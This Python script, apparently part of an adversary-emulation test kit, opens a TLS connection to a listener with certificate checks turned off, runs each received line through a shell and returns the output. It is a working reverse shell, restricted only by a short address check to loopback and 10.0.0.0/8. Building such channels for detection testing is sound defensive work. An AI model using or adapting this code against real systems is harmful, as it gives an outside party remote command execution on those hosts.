#!/usr/bin/env python3
"""AN0401: a command channel over TLS from an interpreter: tls-shell.py ADDRESS PORT

Runs each line that it is sent and returns what it printed. Talks to loopback and to private 10.0.0.0/8 only:
listeners that a test made.
"""
import ipaddress
import os
import socket
import ssl
import subprocess
import sys
import time

# descriptor 3, when whoever started this wants to know what was sent and when
TOLD = "EMULATION_TOLD" in os.environ


def main() -> int:
    address = ipaddress.ip_address(sys.argv[1])
    if not (address.is_loopback or address in ipaddress.ip_network("10.0.0.0/8")):
        print(f"{address} is not a test's address", file=sys.stderr)
        return 64
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((str(address), int(sys.argv[2])), timeout=30) as plain:
        with context.wrap_socket(plain) as channel:
            for line in channel.makefile("r"):
                if line.strip() == "exit":
                    break
                done = subprocess.run(line, shell=True, capture_output=True, timeout=20, check=False)
                channel.sendall(done.stdout + done.stderr)
                if TOLD:
                    os.write(3, f"{time.time():.6f} @payload\n".encode())
    return 0


if __name__ == "__main__":
    sys.exit(main())
